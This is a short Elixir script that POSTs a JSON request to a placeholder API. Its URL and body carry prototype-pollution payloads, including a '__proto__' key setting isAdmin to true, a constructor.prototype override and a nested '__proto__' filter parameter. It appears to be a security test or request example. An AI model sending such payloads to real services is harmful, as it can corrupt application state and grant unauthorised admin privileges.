:inets.start()
:ssl.start()

url = ~c"https://api.example.com/v1/proto?__proto__=q&constructor=c&filter%5B__proto__%5D=nested"

headers = []

body = ~S"""
{
  "__proto__": {
    "isAdmin": true
  },
  "constructor": {
    "prototype": {
      "polluted": true
    }
  },
  "toString": "x",
  "list": [
    {
      "__proto__": null
    }
  ]
}
"""

{:ok, {_status_line, _response_headers, response_body}} =
  :httpc.request(
    :post,
    {url, headers, ~c"application/json", body},
    [ssl: :httpc.ssl_verify_host_options(true)],
    body_format: :binary
  )

IO.puts(response_body)
